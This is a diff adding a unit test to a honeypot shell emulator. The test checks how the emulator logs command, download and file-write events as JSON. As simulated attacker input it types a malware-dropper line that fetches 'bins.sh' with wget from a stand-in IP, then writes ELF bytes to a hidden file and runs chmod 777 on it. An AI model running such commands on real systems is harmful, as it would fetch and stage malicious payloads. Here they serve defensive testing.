@@ -94,11 +94,14 @@ static void expect_out(struct fake *f, const char *want, size_t wantlen)
     f->len = 0;
 }
 #define EXPECT(f, lit) expect_out((f), (lit), sizeof(lit) - 1)
+/* Drop the recorded output (what it is does not matter here). */
+#define EXPECT_PREFIX(f) ((f)->len = 0)
 
 struct captured {
     const char *eventid;
     uint8_t *input;
     size_t len;
+    char *json;                 /* the whole event */
 };
 static struct captured events[MAX_EVENTS];
 static int nevents;
@@ -114,6 +117,7 @@ static void hook(struct hp_event *e, void *arg)
     assert_true(nevents < MAX_EVENTS);
     struct captured *c = &events[nevents++];
     c->eventid = e->h.eventid;
+    c->json = strndup(e->json, e->json_len);
     const struct jc_member *b64 = jc_find(m, n, "input_b64");
     const struct jc_member *in = jc_find(m, n, "input");
     if (!in) {                  /* session.file_download and the like: kept by eventid only */
@@ -135,8 +139,10 @@ static void hook(struct hp_event *e, void *arg)
 
 static void clear_events(void)
 {
-    for (int i = 0; i < nevents; i++)
+    for (int i = 0; i < nevents; i++) {
         free(events[i].input);
+        free(events[i].json);
+    }
     nevents = 0;
 }
 
@@ -856,6 +862,73 @@ static void test_api_edges(void **state)
     hp_shell_set_event_hook(hook, NULL);
 }
 
+/* The JSON of event i contains needle. */
+static void expect_json(int i, const char *eventid, const char *needle)
+{
+    assert_true(i < nevents);
+    assert_string_equal(events[i].eventid, eventid);
+    if (!strstr(events[i].json, needle)) {
+        fprintf(stderr, "event %d: %s\nlacks: %s\n", i, events[i].json, needle);
+        fail();
+    }
+}
+
+static void test_line_events(void **state)
+{
+    (void)state;
+    struct fake f;
+    /* command.input carries the argv of what the line ran, after expansion */
+    struct hp_shell *sh = mk(&f, (struct opts){ 0 });
+    const char *cmd = "X='a b'; echo $X; true | false; nosuchcmd -v";
+    hp_shell_exec(sh, cmd, strlen(cmd));
+    EXPECT(&f, "a b\nbash: line 1: nosuchcmd: command not found\n");
+    assert_int_equal(nevents, 2);
+    expect_json(0, "command.input", "\"commands\":[[\"echo\",\"a\",\"b\"],[\"true\"],[\"false\"],"
+                                    "[\"nosuchcmd\",\"-v\"]]");
+    EXPECT_EVENT(1, "command.failed", "nosuchcmd -v");
+    done(sh, &f);
+
+    /* a download: the line's command.input comes first, then what it caused */
+    sh = mk(&f, (struct opts){ .interactive = true, .term_type = "dumb" });
+    hp_shell_start(sh);
+    type(sh, "cd /tmp; wget http://192.0.2.7/bins.sh\r");
+    assert_int_equal(nevents, 2);
+    expect_json(0, "command.input", "\"commands\":[[\"cd\",\"/tmp\"],[\"wget\",\"http://192.0.2.7/bins.sh\"]]");
+    expect_json(1, "session.file_download", "\"url\":\"http://192.0.2.7/bins.sh\"");
+    expect_json(1, "session.file_download", "\"tool\":\"wget\"");
+    expect_json(1, "session.file_download", "\"outcome\":\"not_fetched\"");
+    clear_events();
+
+    /* a file written in the shell is captured once, whole, when the session ends */
+    type(sh, "echo -ne '\\x7fELF' > .x; echo -ne '\\x01\\x02' >> .x; chmod 777 .x\r");
+    type(sh, "cat > /tmp/y <<EOF\r");
+    EXPECT_PREFIX(&f);
+    type(sh, "line one\r\rline three\r");
+    type(sh, "EOF\r");
+    /* one command.input per line received (not the blank one); the line that
+     * completes the here-document carries what ran; nothing captured yet */
+    assert_int_equal(nevents, 5);
+    expect_json(1, "command.input", "\"input\":\"cat > /tmp/y <<EOF\",\"commands\":[]");
+    expect_json(2, "command.input", "\"input\":\"line one\"");
+    expect_json(4, "command.input", "\"input\":\"EOF\",\"commands\":[[\"cat\"]]");
+    clear_events();
+    type(sh, "cat /tmp/y; exit\r");
+    assert_true(strstr(f.out, "line one\r\n\r\nline three\r\n") != NULL);
+    hp_shell_free(sh);
+    free(f.out);
+    f.out = NULL;
+    /* 7f 45 4c 46 01 02 and "line one\n\nline three\n" */
+    assert_int_equal(nevents, 3);
+    expect_json(0, "command.input", "\"input\":\"cat /tmp/y; exit\"");
+    int x = strstr(events[1].json, "/tmp/.x") ? 1 : 2, y = 3 - x;
+    expect_json(x, "session.file_upload", "\"filename\":\"/tmp/.x\"");
+    expect_json(x, "session.file_upload", "\"size\":6");
+    expect_json(x, "session.file_upload", "\"shasum\":\"541b46110b037abd97df399cc8530be2aa2c1b61eec18e690d8d7974274e9e28\"");
+    expect_json(y, "session.file_upload", "\"filename\":\"/tmp/y\"");
+    expect_json(y, "session.file_upload", "\"protocol_detail\":\"shell\"");
+    clear_events();
+}
+
 static char idir[] = "/tmp/hanipo-test-shell-XXXXXX";
 
 /* A sensor identity with a known host name, from which the personality is drawn. */
@@ -916,6 +989,7 @@ int main(void)
         cmocka_unit_test(test_identity_builtins),
         cmocka_unit_test(test_hostile_bytes),
         cmocka_unit_test(test_api_edges),
+        cmocka_unit_test(test_line_events),
     };
     return cmocka_run_group_tests(tests, setup, teardown);
 }
